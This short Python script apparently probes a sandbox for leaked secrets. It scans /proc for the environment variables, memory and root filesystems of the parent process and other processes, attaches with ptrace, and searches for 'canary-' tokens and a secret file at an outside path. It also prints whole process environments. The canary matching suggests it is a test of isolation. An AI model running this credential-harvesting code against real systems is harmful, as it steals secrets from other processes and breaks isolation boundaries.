"""Looks for the caller's credentials in the processes that hold the command: their environment, memory and files."""

import contextlib
import ctypes
import os
import re
from pathlib import Path

libc = ctypes.CDLL(None, use_errno=True)
for process in {"1", str(os.getppid()), *(name for name in os.listdir("/proc") if name.isdigit() and int(name) < os.getpid())}:
    folder = Path("/proc", process)
    with contextlib.suppress(OSError):
        print((folder / "environ").read_bytes())
    for task in ("", f"task/{process}/"):
        with contextlib.suppress(OSError):
            print(re.findall(rb"canary-\w+", (folder / f"{task}environ").read_bytes()))
    with contextlib.suppress(OSError), open(folder / "mem", "rb", buffering=0) as memory:
        for line in (folder / "maps").read_text().splitlines():
            start, end = (int(number, 16) for number in line.split()[0].split("-"))
            with contextlib.suppress(OSError, OverflowError):
                memory.seek(start)
                print(re.findall(rb"canary-\w+", memory.read(min(end - start, 1 << 26))))
    libc.ptrace(16, int(process), 0, 0)
    with contextlib.suppress(OSError):
        print((folder / "root" / os.environ["OUTSIDE"].lstrip("/") / "secret").read_text())
print(re.findall(r"canary-\w+", str(dict(os.environ))))
